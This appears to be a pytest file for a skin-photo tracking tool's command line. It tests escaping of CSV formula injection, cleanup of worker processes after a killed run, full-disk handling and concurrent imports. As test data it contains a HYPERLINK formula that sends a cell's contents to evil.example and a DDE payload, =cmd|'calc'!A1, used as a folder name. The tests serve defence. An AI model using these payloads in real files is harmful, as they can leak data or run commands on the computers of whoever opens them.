"""The command line under attack or trouble (issue 12): a killed run's workers, a full disk, hostile names
in CSV output, two imports of one course at once."""

from __future__ import annotations

import collections
import errno
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import psutil
import pytest
from click.testing import CliRunner

from skintrack.cli import EXIT_DISK_FULL, EXIT_SOME_FAILED, main
from skintrack.records import Actor, Records
from skintrack.synthetic import Capture, SkinScene, SkinState

from .conftest import REPO

SAMPLES = REPO / "sample_images"
HOSTILE_CODE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def hostile_course(tmp_path_factory) -> Path:
    """A course whose patient, area and file names start like spreadsheet formulas."""
    root = tmp_path_factory.mktemp("hostile-course")
    scene = SkinScene(seed=41, size=(800, 600))
    for date, seed in (("2026-05-04", 1), ("2026-06-01", 2)):
        folder = root / "=cmd|'calc'!A1" / "@left-cheek" / date
        folder.mkdir(parents=True)
        (folder / "=1+2.jpg").write_bytes(scene.render(SkinState(), Capture(size=(800, 600), seed=seed)).encoded)
    return root


def _formula_cells(csv_text: str) -> list[str]:
    """Text cells of a CSV that a spreadsheet would run as a formula (a number such as -0.5 is a number)."""
    import csv
    import io

    def is_number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    cells = (cell for row in csv.reader(io.StringIO(csv_text)) for cell in row)
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]


# --------------------------------------------------------------------------- item 9: every CSV door


def test_score_csv_escapes_hostile_file_names(hostile_course, tmp_path):
    output = tmp_path / "scores.csv"
    result = CliRunner().invoke(main, ["score", str(hostile_course), "-o", str(output), "-w", "1"])
    assert result.exit_code == 0, result.output
    text = output.read_text()
    assert "=1+2.jpg" in text and _formula_cells(text) == []
    to_stdout = CliRunner().invoke(main, ["score", str(hostile_course), "-w", "1"])
    assert "=1+2.jpg" in to_stdout.stdout and _formula_cells(to_stdout.stdout) == []
    assert pd.read_csv(output)["error"].isna().all()  # numbers stay numbers: nothing failed


def test_course_csv_escapes_hostile_patient_and_area_folders(hostile_course, tmp_path):
    output = tmp_path / "course.csv"
    result = CliRunner().invoke(main, ["course", str(hostile_course), "-o", str(output), "-w", "1"])
    assert result.exit_code == 0, result.output
    text = output.read_text()
    assert "=cmd|'calc'!A1" in text and "@left-cheek" in text
    assert _formula_cells(text) == []
    table = pd.read_csv(output)
    assert pd.api.types.is_float_dtype(table["change"])  # including negative changes: still numbers


def test_import_then_app_export_escapes_a_code_from_a_folder_name(hostile_course, tmp_path, monkeypatch):

    from skintrack_app.pages import export

    data = tmp_path / "data"
    result = CliRunner().invoke(main, ["import", str(hostile_course), "--data", str(data)])
    assert result.exit_code == 0, result.output
    patient = Records(data).find_patient(Actor("t"), "=cmd|'calc'!A1")
    assert patient is not None
    monkeypatch.setenv("SKINTRACK_DATA", str(data))
    downloads = []  # (format, bytes) of every table the page encodes for a download
    encode = export.table_bytes

    def spy(table, format="csv", *args, **kwargs):
        downloads.append((format, encode(table, format, *args, **kwargs)))
        return downloads[-1][1]

    monkeypatch.setattr(export, "table_bytes", spy)

    from .test_app import _page, _staff

    _staff(data)
    at = _page("export", patient.id).run()
    assert not at.exception and len(at.get("download_button")) >= 1
    csvs = [data for format, data in downloads if format == "csv"]
    assert csvs and all(b"=cmd|'calc'!A1" in data for data in csvs)
    assert all(_formula_cells(data.decode()) == [] for data in csvs)


# --------------------------------------------------------------------------- item 13: workers of a killed run


def _worker_folder(folder: Path, photos: int) -> Path:
    shot = SkinScene(seed=5, size=(1600, 1200)).render(SkinState(), Capture(size=(1600, 1200), seed=1)).encoded
    folder.mkdir()
    for index in range(photos):
        (folder / f"photo-{index:03d}.jpg").write_bytes(shot)
    return folder


@pytest.mark.slow  # kills processes: make test-slow (CI runs it)
def test_killing_score_by_sigkill_ends_its_workers(tmp_path):
    folder = _worker_folder(tmp_path / "photos", 60)
    run = subprocess.Popen(
        [sys.executable, "-m", "skintrack", "score", str(folder), "-o", str(tmp_path / "out.csv"), "--workers", "2"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    children: list[psutil.Process] = []
    try:
        parent = psutil.Process(run.pid)
        deadline = time.monotonic() + 120
        workers: list[psutil.Process] = []
        while time.monotonic() < deadline:
            workers = [c for c in parent.children(recursive=True) if "resource_tracker" not in " ".join(c.cmdline())]
            busy = [w for w in workers if w.cpu_times().user > 1.0]  # started and scoring
            if len(busy) >= 2:
                break
            time.sleep(0.2)
        assert len(workers) >= 2, "the workers never started"
        children = parent.children(recursive=True)
        os.kill(run.pid, signal.SIGKILL)
        run.wait(30)
        _, alive = psutil.wait_procs(children, timeout=30)
        assert alive == [], f"{len(alive)} worker processes outlived their killed parent"
    finally:
        if run.poll() is None:
            run.kill()
        for child in children:  # whatever outlived the parent (the bug this test is for): end it
            try:
                child.kill()
            except psutil.NoSuchProcess:
                pass


def test_a_worker_whose_parent_is_gone_exits_at_once(tmp_path):
    code = """
import multiprocessing, os, sys, time
from concurrent.futures import ProcessPoolExecutor
from skintrack.batch import _pool_worker_init

def pid():
    return os.getpid()

if __name__ == "__main__":
    pool = ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("spawn"), initializer=_pool_worker_init)
    print(pool.submit(pid).result(), flush=True)
    os._exit(0)  # the parent vanishes without shutting the pool down (as SIGKILL would)
"""
    script = tmp_path / "orphan_worker.py"
    script.write_text(code)
    out = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=120)
    worker = int(out.stdout.strip().splitlines()[0])
    try:
        process = psutil.Process(worker)
    except psutil.NoSuchProcess:
        return  # already gone
    _, alive = psutil.wait_procs([process], timeout=30)
    for leftover in alive:
        leftover.kill()
    assert alive == [], "the worker outlived its parent"


# --------------------------------------------------------------------------- item 14: a full disk


Usage = collections.namedtuple("Usage", "total used free")


def test_score_refuses_to_start_when_the_table_cannot_fit(hostile_course, tmp_path, monkeypatch):
    import skintrack.batch

    output = tmp_path / "scores.csv"
    output.write_text("previous,table\n")
    scored = []
    monkeypatch.setattr(skintrack.batch, "_map", lambda *a, **k: scored.append(1) or [])
    monkeypatch.setattr(shutil, "disk_usage", lambda path: Usage(10**9, 10**9 - 1000, 1000))
    for command in (["score", str(hostile_course), "-o", str(output), "--force"], ["course", str(hostile_course), "-o", str(output)]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == EXIT_DISK_FULL, result.output
        assert "Nothing was scored" in result.output and "Traceback" not in result.output
    assert scored == [] and output.read_text() == "previous,table\n"


def test_no_space_when_writing_the_table_keeps_the_old_one(hostile_course, tmp_path, monkeypatch):
    output = tmp_path / "scores.csv"
    output.write_text("previous,table\n")

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    result = CliRunner().invoke(main, ["score", str(hostile_course), "-o", str(output), "-w", "1", "--force"])
    assert result.exit_code == EXIT_DISK_FULL, result.output
    assert "No space left" in result.output and "Traceback" not in result.output
    assert output.read_text() == "previous,table\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["scores.csv"]  # no temporary file left


def test_import_and_archive_export_stop_cleanly_on_a_full_disk(hostile_course, tmp_path, monkeypatch):
    import skintrack.records.store as store_module

    data = tmp_path / "data"
    runner = CliRunner()
    monkeypatch.setattr(store_module.shutil, "disk_usage", lambda path: Usage(10**9, 10**9 - 1000, 1000))
    result = runner.invoke(main, ["import", str(hostile_course), "--data", str(data)])
    assert result.exit_code == EXIT_DISK_FULL and "disk" in result.output and "Traceback" not in result.output
    monkeypatch.undo()
    assert runner.invoke(main, ["import", str(hostile_course), "--data", str(data)]).exit_code == 0
    import skintrack.intake.photo as photo_module

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(photo_module.os, "fsync", full)
    archive = tmp_path / "backup.zip"
    result = runner.invoke(main, ["archive", "export", "=cmd|'calc'!A1", str(archive), "--data", str(data)])
    assert result.exit_code == EXIT_DISK_FULL and "Traceback" not in result.output
    assert not archive.exists() and [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


# --------------------------------------------------------------------------- item 12: two imports at once


@pytest.mark.slow  # a long concurrency check: make test-slow (CI runs it)
def test_two_imports_of_one_course_at_once_store_each_visit_once(hostile_course, tmp_path):
    data = tmp_path / "data"
    Records(data).close()  # the schema first, so both runs start on an upgraded database
    command = [sys.executable, "-m", "skintrack", "import", str(hostile_course), "--data", str(data)]
    runs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    for run in runs:
        _, err = run.communicate(timeout=600)
        assert run.returncode in (0, EXIT_SOME_FAILED), err
        assert "Traceback" not in err
    records = Records(data)
    patients = records.list_patients(Actor("t"))
    assert [p.code for p in patients] == ["=cmd|'calc'!A1"]
    sessions = records.list_sessions(Actor("t"), patients[0].id)
    assert [s.date.isoformat() for s in sessions] == ["2026-05-04", "2026-06-01"]
    assert len(records.list_photos(Actor("t"), patients[0].id)) == 2
